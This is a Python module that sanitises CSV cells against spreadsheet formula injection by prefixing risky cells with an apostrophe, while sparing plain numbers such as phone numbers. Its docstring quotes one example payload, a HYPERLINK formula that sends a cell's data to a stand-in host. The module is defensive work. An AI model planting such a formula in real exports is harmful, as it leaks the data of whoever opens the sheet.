"""CSV cells that a spreadsheet will not run as formulas (CSV/formula injection).

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab / carriage return, which some
spreadsheets skip before parsing) is a formula to Excel and LibreOffice: a caller named
``=HYPERLINK("http://evil/?"&A1,"x")`` would leak data from the sheet of whoever opens the
export. Such cells get a leading ``'`` (OWASP's advice), which spreadsheets show as text.

Plain numbers such as an E.164 phone ``+74951234567``, ``-12.50`` or a space-separated list
of phones are left alone: without letters or brackets they cannot call a function, and
prefixing them would spoil every phone column.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = r"[+-]?\d+(\.\d+)?"
_PLAIN_NUMBERS = re.compile(rf"{_NUMBER}( {_NUMBER})*")


def safe_cell(value: object) -> str:
    """``value`` as CSV text that opens as text, never as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBERS.fullmatch(text):
        return "'" + text
    return text


def csv_line(cells: Sequence[object]) -> str:
    """One CSV record (quoted as needed, CRLF-terminated) of safe cells."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(c) for c in cells])
    return buffer.getvalue()


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    return "".join(csv_line(row) for row in rows)
